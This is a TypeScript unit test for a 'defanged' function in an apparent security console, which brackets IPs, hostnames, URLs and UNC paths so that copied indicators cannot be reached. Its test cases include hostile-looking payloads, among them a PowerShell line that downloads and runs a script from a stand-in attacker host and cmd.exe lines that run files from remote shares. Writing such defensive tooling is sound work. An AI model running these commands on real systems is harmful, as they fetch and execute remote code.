import assert from 'node:assert/strict';
import { test } from 'node:test';
import { kindOfField } from '../../console/kit/object-words.ts';
import { defanged } from '../../console/kit/visible.ts';

test('SETTLED G15 what is copied defanged leads nowhere: hosts and addresses whole, in other texts those that could be reached', () => {
  const cases: readonly (readonly [kind: string, text: string, copied: string])[] = [
    ['address', '10.20.1.32', '10[.]20[.]1[.]32'],
    ['address', 'fe80::1', 'fe80[:][:]1'],
    ['host', 'ws-07.corp.example', 'ws-07[.]corp[.]example'],
    ['domain', 'evil.example', 'evil[.]example'],
    ['url', 'https://evil.example:8443/a.b?c=d.e', 'hxxps://evil[.]example[:]8443/a.b?c=d.e'],
    ['url', 'ftp://10.1.2.3/x.exe', 'fxp://10[.]1[.]2[.]3/x.exe'],
    ['payload', "IEX (iwr 'http://evil.example/a.ps1')", "IEX (iwr 'hxxp://evil[.]example/a.ps1')"],
    ['payload', 'cmd.exe /c \\\\10.1.2.3\\c$\\a.bat 1.2', 'cmd.exe /c \\\\10[.]1[.]2[.]3\\c$\\a.bat 1.2'],
    ['url', 'http://10.1.2.3.nip.io/x', 'hxxp://10[.]1[.]2[.]3[.]nip[.]io/x'],
    ['url', 'http://10.1.2.3:8080/', 'hxxp://10[.]1[.]2[.]3[:]8080/'],
    ['url', 'http://evil.example?f=a.b', 'hxxp://evil[.]example?f=a.b'],
    ['unc', '\\\\evil.example\\share\\x.exe', '\\\\evil[.]example\\share\\x.exe'],
    ['payload', 'start \\\\.\\pipe\\a.b C:\\\\a.b', 'start \\\\.\\pipe\\a.b C:\\\\a.b'],
    ['account', 'CORP\\svc.deploy', 'CORP\\svc.deploy'],
    ['hash', 'SHA256=00AA', 'SHA256=00AA'],
  ];
  for (const [kind, text, copied] of cases) assert.equal(defanged(kind, text), copied);
  const asked = (field: string, value: string): string => defanged(kindOfField(field), value);
  assert.equal(asked('QueryName', 'c2.example.net'), 'c2[.]example[.]net');
  const results = 'type:  5 alias.example.net;type:  28 b.example.net;::ffff:10.1.2.3;';
  const bracketed = 'type:  5 alias[.]example[.]net;type:  28 b[.]example[.]net;[:][:]ffff[:]10[.]1[.]2[.]3;';
  assert.equal(asked('QueryResults', results), bracketed);
  assert.equal(asked('Query', 'SELECT * FROM a.b'), 'SELECT * FROM a.b');
});
